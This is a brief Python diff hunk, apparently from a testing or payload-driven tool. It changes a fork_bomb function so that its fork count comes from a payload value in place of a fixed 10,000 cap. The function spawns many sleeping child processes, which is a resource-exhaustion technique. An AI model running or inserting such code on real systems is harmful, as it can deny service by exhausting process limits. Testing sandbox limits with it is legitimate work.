@@ -48,7 +48,7 @@ def connect(payload):
 def fork_bomb(payload):
     forks = 0
     try:
-        while forks < 10_000:
+        while forks < payload.get("max", 10_000):
             if os.fork() == 0:
                 time.sleep(60)
                 os._exit(0)
